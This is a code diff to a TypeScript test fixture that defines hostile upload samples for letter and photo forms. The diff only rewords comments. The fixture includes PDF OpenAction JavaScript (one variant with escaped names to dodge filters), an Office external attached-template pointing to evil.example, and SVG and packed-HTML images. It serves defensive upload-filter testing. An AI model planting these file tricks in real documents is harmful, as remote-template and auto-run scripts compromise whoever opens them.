@@ -28,7 +28,7 @@ const runs = (action: string) => pdfLetter({ catalog: `/OpenAction << /S ${actio
 const foreignTemplate =
   '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
 
-/** What is sent for a letter. */
+/** Files that are sent as an application letter. */
 export const hostileLetters: HostileFile[] = [
   pdf('a script', runs('/JavaScript /JS (canary())')),
   pdf('a script with an escaped name', runs('/J#61vaScript /J#53 (canary())')),
@@ -116,7 +116,7 @@ export const hostileLetters: HostileFile[] = [
   doc('a page of the web', html),
 ];
 
-/** What is sent for a photo. */
+/** Files that are sent as a photo. */
 export const hostilePictures: HostileFile[] = [
   image('a drawing', svg, 'foto.svg', 'image/svg+xml'),
   image('a drawing called a photo', svg),
@@ -146,5 +146,5 @@ export const hostilePictures: HostileFile[] = [
   image('a packed page', deflateSync(html)),
 ];
 
-/** Files that neither form takes, whatever their name and type say. */
+/** Files that both forms refuse, whatever their names and types are. */
 export const hostileFiles = [...hostileLetters, ...hostilePictures];
